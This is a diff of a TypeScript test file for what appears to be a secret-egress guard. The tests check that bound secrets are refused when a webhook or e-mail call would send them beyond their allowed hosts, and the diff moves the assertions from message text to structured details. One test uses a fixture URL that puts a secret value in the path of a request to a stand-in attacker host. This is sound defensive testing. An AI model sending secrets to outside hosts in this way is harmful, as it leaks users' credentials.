@@ -19,10 +19,8 @@ const error = { type: "invalid_configuration", code: "secret_bound_elsewhere", r
 it("says which secret, where it would go and where it may", async () => {
   const over = { bounds: [bound("api.example.com", "*.example.net")], secrets: ["a-secret-value"] };
   const { outcome, hosts } = await perform("webhook", { url: "https://evil.example.org/a-secret-value" }, over);
-  const message =
-    "the secret crm_token may go to api.example.com, *.example.net only, and this would call evil.example.org";
   const details = { secret: "crm_token", to: "evil.example.org", hosts: ["api.example.com", "*.example.net"] };
-  expect([outcome, hosts]).toMatchObject([{ ok: false, error: { ...error, message, details } }, []]);
+  expect([outcome, hosts]).toMatchObject([{ ok: false, error: { ...error, details } }, []]);
 });
 
 it("does not show a value that stands in the host itself", async () => {
@@ -67,8 +65,8 @@ it("the e-mail binding has no host: no such secret goes through it", async () =>
   const email = { send: async (message: unknown) => (sent.push(message), { messageId: "m" }) };
   const mail = { provider: "cloudflare", to: "ada@example.com", from: "us@example.com", subject: "Hi", text: "Hello" };
   const { outcome } = await perform("email", mail, { email, bounds: [bound("api.example.com")] });
-  expect(outcome).toMatchObject({ ok: false, error });
-  expect(outcome.ok ? "" : outcome.error.message).toContain("the e-mail binding");
+  const details = { secret: "crm_token", hosts: ["api.example.com"] };
+  expect(outcome).toMatchObject({ ok: false, error: { ...error, details } });
   expect((await perform("email", mail, { email })).outcome.ok).toBe(true);
   expect(sent).toHaveLength(1);
 });
